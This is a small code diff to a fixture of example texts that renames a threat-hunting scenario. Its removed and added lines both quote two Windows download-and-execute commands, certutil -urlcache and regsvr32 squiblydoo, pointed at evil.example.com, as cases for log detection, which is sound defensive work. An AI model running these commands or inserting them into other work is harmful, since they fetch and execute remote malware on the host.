@@ -44,7 +44,7 @@ const SHOWN: readonly (readonly [string, Example])[] = [
     'what attackers use a command for, below its name',
     about(
       'Hunting for abuse of system programs in logs.',
-      '## Scenarios\n\n1. **Certutil download**: Adversary uses `certutil.exe -urlcache -split -f http://evil.example.com/p.exe` to download malware.\n2. **Regsvr32 squiblydoo**: `regsvr32 /s /n /u /i:http://evil.example.com/f.sct scrobj.dll` executing remote scripts.\n',
+      '## Scenarios\n\n1. **Certutil cradle**: Adversary uses `certutil.exe -urlcache -split -f http://evil.example.com/p.exe` to download malware.\n2. **Regsvr32 squiblydoo**: `regsvr32 /s /n /u /i:http://evil.example.com/f.sct scrobj.dll` executing remote scripts.\n',
     ),
   ],
   [
